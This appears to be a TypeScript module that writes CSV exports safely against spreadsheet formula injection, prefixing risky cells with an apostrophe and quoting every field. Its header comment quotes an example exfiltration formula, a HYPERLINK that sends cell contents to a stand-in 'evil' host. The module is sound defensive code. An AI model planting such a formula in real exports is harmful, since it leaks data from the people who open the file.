/**
 * CSV export without formula injection (OWASP "CSV Injection").
 *
 * A cell whose text starts with = + - @ TAB or CR is read as a formula by Excel, LibreOffice and Google
 * Sheets, so `=HYPERLINK("http://evil/?"&A1,"Click")` in an agency's data could leak other cells when a
 * colleague opens an export. Every such cell gets a leading apostrophe, which spreadsheets treat as "this is
 * text". Every field is then quoted, with embedded quotes doubled, so separators and line breaks in values
 * cannot break the row structure either.
 *
 * Use `csvRow`/`toCsv` for EVERY CSV the system writes: error reports, quality reports, exports.
 */

const FORMULA_START = new Set(['=', '+', '-', '@', '\t', '\r'])
const NUMBER = /^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$/

export interface CsvSafeOptions {
  /**
   * Leave plain numbers such as -5 or +44 unprefixed (they cannot run anything). Off by default: OWASP
   * prefixes every cell that starts with a trigger character.
   */
  readonly preserveNumbers?: boolean
}

/** The cell text made safe to open in a spreadsheet (a leading apostrophe where needed). */
export function neutraliseCell(value: string, options: CsvSafeOptions = {}): string {
  if (value.length === 0 || !FORMULA_START.has(value[0]!)) return value
  if (options.preserveNumbers && NUMBER.test(value)) return value
  return `'${value}`
}

export function cellToText(value: unknown): string {
  if (value === null || value === undefined) return ''
  if (Array.isArray(value)) return value.map(cellToText).join(';')
  if (value instanceof Date) return value.toISOString()
  return String(value)
}

/** One CSV line (with CRLF ending): every field neutralised and quoted. */
export function csvRow(values: readonly unknown[], options: CsvSafeOptions = {}): string {
  return values.map((v) => `"${neutraliseCell(cellToText(v), options).replaceAll('"', '""')}"`).join(',') + '\r\n'
}

export interface ToCsvOptions extends CsvSafeOptions {
  /** Start with a UTF-8 byte-order mark so that Excel reads £ and é correctly. Default true. */
  readonly bom?: boolean
}

/** Streams a CSV: the header line, then one line per row. Rows may be arrays or objects keyed by header. */
export async function* toCsv(
  headers: readonly string[],
  rows: AsyncIterable<readonly unknown[] | Readonly<Record<string, unknown>>> | Iterable<readonly unknown[] | Readonly<Record<string, unknown>>>,
  options: ToCsvOptions = {},
): AsyncGenerator<string> {
  yield (options.bom === false ? '' : '\uFEFF') + csvRow(headers, options)
  for await (const row of rows) {
    const values = Array.isArray(row) ? row : headers.map((h) => (row as Record<string, unknown>)[h])
    yield csvRow(values, options)
  }
}
